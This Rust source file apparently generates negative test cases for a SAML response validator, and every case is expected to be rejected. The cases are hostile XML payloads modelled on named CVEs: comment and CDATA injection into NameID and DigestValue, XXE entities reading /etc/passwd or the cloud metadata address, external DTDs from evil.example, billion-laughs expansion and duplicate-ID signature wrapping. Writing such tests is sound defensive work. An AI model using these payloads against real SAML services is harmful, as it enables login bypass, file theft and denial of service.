//! Hostile text: what parsers disagree about, what is too much, and what is no message at all.

use std::io::Write as _;

use super::{Case, OWN, field, replaced, xml};
use crate::forge::{Message, NOW};

const FORBIDDEN: &str = "forbidden_construct";
const COMMENT: &str = "after CVE-2017-11427 and its kin (Duo, 2018): text cut at a comment";
const DOCTYPE: &str = "after CVE-2025-25291 and CVE-2025-25292 (ruby-saml): parsers that disagree";
const ENTITY: &str = "after CVE-2014-3529 and its kin: external and recursive entities";
const BOUNDS: &str = "made by the generator: more than a message ever needs";

fn encode(bytes: &[u8]) -> String {
    openssl::base64::encode_block(bytes)
}

pub(crate) fn cases() -> Vec<Case> {
    let right = Message::default().xml();
    let response = Message::response_signed().xml();
    let in_front = |text: &str| format!("{text}{right}");
    let deep = format!("{}{}", "<x>".repeat(5000), "</x>".repeat(5000));
    let laughs: String =
        (1..10).map(|level| format!(r#"<!ENTITY l{level} "{}">"#, format!("&l{};", level - 1).repeat(10))).collect();
    let in_assertion =
        |text: &str| replaced(&right, "</saml:AttributeStatement>", &format!("{text}</saml:AttributeStatement>"));
    let mut gzip = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3];
    gzip.write_all(right.as_bytes()).unwrap();
    vec![
        xml(
            "comment_in_name_id",
            FORBIDDEN,
            COMMENT,
            "a comment in the NameID, which canonicalisation drops",
            replaced(&right, "7f3c-ada", "7f3c<!-- -->-ada"),
        ),
        xml(
            "comment_in_email",
            FORBIDDEN,
            COMMENT,
            "a comment in the address",
            replaced(&right, "ada@acme.example", "ada@acme.example<!---->.evil.example"),
        ),
        xml(
            "comment_in_digest",
            FORBIDDEN,
            "after CVE-2025-29775 (xml-crypto): a comment in DigestValue",
            "a comment in DigestValue, with another digest behind it",
            replaced(&right, "<ds:DigestValue>", "<ds:DigestValue><!--AAAA-->"),
        ),
        xml(
            "comment_in_audience",
            FORBIDDEN,
            COMMENT,
            "a comment in the audience",
            replaced(&right, "</saml:Audience>", "<!----></saml:Audience>"),
        ),
        xml("comment_at_end", FORBIDDEN, COMMENT, "a comment after the response", format!("{right}<!-- x -->")),
        xml(
            "processing_instruction",
            FORBIDDEN,
            COMMENT,
            "a processing instruction in the NameID",
            replaced(&right, "7f3c-ada", "7f3c<?x ?>-ada"),
        ),
        xml(
            "cdata",
            FORBIDDEN,
            COMMENT,
            "a CDATA section in the NameID",
            replaced(&right, "7f3c-ada", "<![CDATA[7f3c-ada]]>"),
        ),
        xml("doctype", FORBIDDEN, DOCTYPE, "an empty document type declaration", in_front("<!DOCTYPE Response>")),
        xml(
            "doctype_attribute_default",
            FORBIDDEN,
            DOCTYPE,
            "a declaration that makes another attribute the id",
            in_front("<!DOCTYPE Response [<!ATTLIST Assertion AssertionID ID #IMPLIED>]>"),
        ),
        xml(
            "doctype_notation",
            FORBIDDEN,
            DOCTYPE,
            "a notation that hides an element from one parser",
            in_front(r#"<!DOCTYPE Response [<!NOTATION x SYSTEM "<samlp:Response">]>"#),
        ),
        xml(
            "entity",
            FORBIDDEN,
            ENTITY,
            "an internal entity as NameID",
            format!(r#"<!DOCTYPE r [<!ENTITY e "7f3c-owner">]>{}"#, replaced(&right, "7f3c-ada", "&e;")),
        ),
        xml(
            "external_entity",
            FORBIDDEN,
            ENTITY,
            "an entity from a file (XXE)",
            format!(r#"<!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/passwd">]>{}"#, replaced(&right, "7f3c-ada", "&e;")),
        ),
        xml(
            "external_entity_http",
            FORBIDDEN,
            ENTITY,
            "an entity from a server within",
            format!(
                r#"<!DOCTYPE r [<!ENTITY e SYSTEM "http://169.254.169.254/">]>{}"#,
                replaced(&right, "7f3c-ada", "&e;")
            ),
        ),
        xml(
            "external_dtd",
            FORBIDDEN,
            ENTITY,
            "a document type from elsewhere",
            in_front(r#"<!DOCTYPE r SYSTEM "http://evil.example/x.dtd">"#),
        ),
        xml(
            "parameter_entity",
            FORBIDDEN,
            ENTITY,
            "a parameter entity from elsewhere",
            in_front(r#"<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/x">%p;]>"#),
        ),
        xml(
            "billion_laughs",
            FORBIDDEN,
            ENTITY,
            "entities that grow to gigabytes",
            format!(r#"<!DOCTYPE r [<!ENTITY l0 "lol">{laughs}]>{}"#, replaced(&right, "7f3c-ada", "&l9;")),
        ),
        xml(
            "unknown_entity",
            "malformed",
            ENTITY,
            "an entity that nobody declared",
            replaced(&right, "7f3c-ada", "&nbsp;"),
        ),
        xml(
            "duplicate_ids",
            FORBIDDEN,
            "made by the generator: a reference that finds two elements",
            "an attribute element with the id of the assertion",
            in_assertion(r#"<saml:Attribute ID="_assertion1" Name="x"/>"#),
        ),
        xml(
            "duplicate_ids_other_case",
            FORBIDDEN,
            "made by the generator: a reference that finds two elements",
            "an id attribute of another spelling with the id of the assertion",
            in_assertion(r#"<x:x xmlns:x="urn:x" Id="_assertion1"/>"#),
        ),
        xml(
            "xml_id",
            FORBIDDEN,
            "made by the generator: a reference that finds two elements",
            "xml:id with the id of the assertion",
            in_assertion(r#"<x:x xmlns:x="urn:x" xml:id="_assertion1"/>"#),
        ),
        xml(
            "namespaced_id",
            FORBIDDEN,
            "made by the generator: a reference that finds two elements",
            "an ID attribute of a namespace",
            in_assertion(r#"<x:x xmlns:x="urn:x" x:ID="_assertion1"/>"#),
        ),
        xml(
            "id_not_a_name",
            FORBIDDEN,
            "made by the generator: an id that is read as an XPointer",
            "an id that is an XPointer",
            right.replace("_assertion1", "xpointer(/)"),
        ),
        xml(
            "declaration_utf16",
            FORBIDDEN,
            DOCTYPE,
            "a declaration that says another encoding",
            in_front(r#"<?xml version="1.0" encoding="UTF-16"?>"#),
        ),
        xml(
            "declaration_utf7",
            FORBIDDEN,
            DOCTYPE,
            "a declaration that says UTF-7",
            in_front(r#"<?xml version="1.0" encoding="UTF-7"?>"#),
        ),
        xml(
            "xml_1_1",
            FORBIDDEN,
            DOCTYPE,
            "XML 1.1, whose line ends and characters differ",
            in_front(r#"<?xml version="1.1"?>"#),
        ),
        xml(
            "text_between_elements",
            FORBIDDEN,
            OWN,
            "text between the elements of the response",
            replaced(&right, "<samlp:Status>", "text<samlp:Status>"),
        ),
        xml(
            "element_in_name_id",
            "signature",
            COMMENT,
            "an element within the NameID",
            replaced(&right, "7f3c-ada", "7f3c-<x/>ada"),
        ),
        xml("deep", "malformed", BOUNDS, "elements nested 5000 deep", in_assertion(&deep)),
        xml("many_elements", "malformed", BOUNDS, "twenty thousand elements", in_assertion(&"<x/>".repeat(20_000))),
        xml(
            "many_attributes",
            "malformed",
            BOUNDS,
            "an element of a thousand attributes",
            in_assertion(&format!("<x{}/>", (0..1000).map(|n| format!(" a{n}=\"\"")).collect::<String>())),
        ),
        xml(
            "many_namespaces",
            "malformed",
            BOUNDS,
            "an element of a hundred namespaces",
            in_assertion(&format!("<x{}/>", (0..100).map(|n| format!(" xmlns:a{n}=\"u\"")).collect::<String>())),
        ),
        xml(
            "oversize",
            "malformed",
            BOUNDS,
            "a message of 300 KB",
            replaced(&right, "<saml:AttributeStatement>", &format!("{}<saml:AttributeStatement>", " ".repeat(300_000))),
        ),
        field("not_base64", "malformed", OWN, "XML that is not in base64", right.clone()),
        field("empty", "malformed", OWN, "nothing", String::new()),
        field("base64_cut", "malformed", OWN, "base64 that was cut", encode(right.as_bytes())[..1001].to_owned()),
        field(
            "base64url",
            "malformed",
            OWN,
            "base64 of the alphabet for addresses",
            encode("???>>>~~~".as_bytes()).replace('+', "-").replace('/', "_"),
        ),
        field("gzip", "malformed", OWN, "a compressed message", encode(&gzip)),
        field(
            "not_utf8",
            "malformed",
            OWN,
            "bytes that are not UTF-8",
            encode(&[&[0xff, 0xfe][..], right.as_bytes()].concat()),
        ),
        field(
            "utf16",
            "malformed",
            DOCTYPE,
            "a message in UTF-16",
            encode(&right.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<u8>>()),
        ),
        xml("not_xml", "malformed", OWN, "a sentence", format!("signed in at {NOW}")),
        xml("json", "malformed", OWN, "JSON", r#"{"sub":"7f3c-owner"}"#.to_owned()),
        xml("cut", "malformed", OWN, "a message that was cut", right[..right.len() / 2].to_owned()),
        xml("two_roots", "malformed", DOCTYPE, "two responses after one another", format!("{response}{right}")),
        xml("nul", "malformed", DOCTYPE, "a NUL in the NameID", replaced(&right, "7f3c-ada", "7f3c\0-ada")),
        xml(
            "nul_reference",
            "malformed",
            DOCTYPE,
            "a reference to NUL in the NameID",
            replaced(&right, "7f3c-ada", "7f3c&#0;-ada"),
        ),
        xml(
            "undeclared_prefix",
            "malformed",
            DOCTYPE,
            "a prefix that is declared nowhere",
            in_assertion("<nobody:x/>"),
        ),
        xml(
            "duplicate_attribute",
            "malformed",
            DOCTYPE,
            "an attribute twice",
            replaced(&right, r#" ID="_assertion1""#, r#" ID="_assertion1" ID="_evil""#),
        ),
    ]
}
